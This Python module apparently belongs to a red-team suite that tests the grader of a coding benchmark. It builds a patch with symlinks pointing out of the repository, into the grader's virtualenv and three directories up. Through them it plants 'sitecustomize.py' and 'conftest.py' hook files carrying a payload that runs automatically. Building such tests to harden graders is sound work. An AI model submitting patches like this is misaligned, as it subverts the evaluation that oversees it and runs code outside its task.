"""Add a symbolic link out of the tree and, in the same patch, a file beyond it.

No naive control: git itself refuses such a path, so only a grader that parses patches on its own can fall for it.
"""

from __future__ import annotations

from r2egym.attacks import diffs
from r2egym.attacks.base import Attack, Target
from r2egym.attacks.payloads import PLUGIN


def _make(target: Target) -> str:
    del target
    return diffs.join(
        diffs.symlink("leak", "/opt/r2egym/venv"),
        diffs.new_file("leak/sitecustomize.py", PLUGIN),
        diffs.symlink("up", "../../.."),
        diffs.new_file("up/tmp/conftest.py", PLUGIN),
    )


ATTACK = Attack(__name__, __doc__, "paths", _make, joins=False, beats="none")
